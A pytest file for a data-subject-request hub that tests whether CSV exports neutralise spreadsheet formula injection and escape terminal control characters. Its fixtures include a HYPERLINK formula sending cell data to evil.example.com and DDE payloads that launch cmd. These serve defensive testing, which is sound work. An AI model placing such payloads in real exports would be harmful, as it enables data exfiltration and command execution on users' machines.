"""CSV files the hub writes open in a spreadsheet as text: a value from a processor, a web form
or the requester's own address that starts like a formula gets a leading apostrophe (OWASP),
while phone numbers and amounts stay readable; export.zip's README says so."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from hub.core.models import (
    ProcessorResult,
    ProcessorStatus,
    Record,
    Report,
    RequestInfo,
    SubjectInfo,
)
from hub.core.spreadsheet import safe_cell
from hub.reports.export import records_csv
from hub.reports.files import write_report
from tests.e2e_helpers import run_dsar

HYPERLINK = '=HYPERLINK("https://evil.example.com/?d="&A1,"click")'
DDE = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+2", "'=1+2"),
    (HYPERLINK, "'" + HYPERLINK),
    (DDE, "'" + DDE),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("+cmd|' /C notepad'!A1", "'+cmd|' /C notepad'!A1"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    ("-x@example.se", "'-x@example.se"),
    ("+46701234567", "+46701234567"),  # a phone number is no formula
    ("+46 70 123 45 67", "+46 70 123 45 67"),
    ("+46 (0)70-123 45 67", "+46 (0)70-123 45 67"),
    ("-500", "-500"),
    ("-12.50", "-12.50"),
    ("Åsa Öberg", "Åsa Öberg"),
    ("a=b", "a=b"),
    ("", ""),
])
def test_safe_cell(value: str, expected: str) -> None:
    assert safe_cell(value) == expected


def _report(records: list[Record]) -> Report:
    return Report(
        request=RequestInfo(id="acc-20261201-093000-c5v001", type="access",
                            received_at=datetime(2026, 12, 1, 8, 30, tzinfo=UTC),
                            due_at=date(2027, 1, 4), tool_version="0.1.0"),
        subject=SubjectInfo(email="=nils@example.se", identifiers=[]),
        processors=[ProcessorResult(name="stripe", status=ProcessorStatus.FOUND,
                                    records=records)],
    )


def _records() -> list[Record]:
    return [Record(type="customer", id="cus_1", matched_on="email", data={
        "name": HYPERLINK, "email": "=nils@example.se", "phone": "+46701234567",
        "balance": -500, "description": DDE, "=cmd": "@x"})]


def test_records_csv_neutralises_values_and_column_names() -> None:
    rows = list(csv.reader(io.StringIO(records_csv(_records()), newline="")))
    header, row = rows
    cells = dict(zip(header, row, strict=True))
    assert cells["name"] == "'" + HYPERLINK
    assert cells["email"] == "'=nils@example.se"
    assert cells["description"] == "'" + DDE
    assert cells["phone"] == "+46701234567" and cells["balance"] == "-500"
    assert cells["'=cmd"] == "'@x"  # a processor's field name is no safer
    assert not [c for c in [*header, *row] if c[:1] in ("=", "@")]


def test_export_zip_csv_is_neutralised_and_readme_says_so(tmp_path: Path) -> None:
    folder = write_report(_report(_records()), tmp_path, lang="en")
    with zipfile.ZipFile(folder / "export.zip") as archive:
        text = archive.read("stripe-customer.csv").decode("utf-8-sig")
        readme = archive.read("README.txt").decode("utf-8")
        exact = json.loads(archive.read("report.json"))
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["name"] == "'" + HYPERLINK and row["phone"] == "+46701234567"
    assert "apostrophe" in readme and "+46701234567" in readme
    # report.json keeps the value as the processor holds it
    assert exact["processors"][0]["records"][0]["data"]["name"] == HYPERLINK
    sv = write_report(_report(_records()), tmp_path / "sv", lang="sv")
    with zipfile.ZipFile(sv / "export.zip") as archive:
        assert "apostrof" in archive.read("README.txt").decode("utf-8")


@pytest.mark.database
def test_requests_export_neutralises_the_requesters_own_text(tmp_path: Path) -> None:
    env = {"DSAR_STATE_DIR": str(tmp_path)}
    opened = run_dsar("requests", "open", "=1+2@example.se", "--type", "access",
                      "--received", "2026-11-20", "--verified-by", HYPERLINK, env=env)
    assert opened.code == 0, opened.stderr
    run = run_dsar("requests", "export", "--csv", env=env)
    assert run.code == 0, run.stderr
    [row] = list(csv.DictReader(io.StringIO(run.stdout, newline="")))
    assert row["subject_email"] == "'=1+2@example.se"
    assert row["verified_by"] == "'" + HYPERLINK
    assert row["received_on"] == "2026-11-20"


@pytest.mark.parametrize("raw, shown", [
    ("Anna\x1b[2J\x1b[31mSvensson", "Anna\\x1b[2J\\x1b[31mSvensson"),
    ("bell\x07", "bell\\x07"),
    ("c1\x9bcode", "c1\\x9bcode"),
    ("line one\nline two\ttab", "line one\nline two\ttab"),
])
def test_control_characters_are_written_as_visible_text(raw: str, shown: str) -> None:
    assert safe_cell(raw) == shown
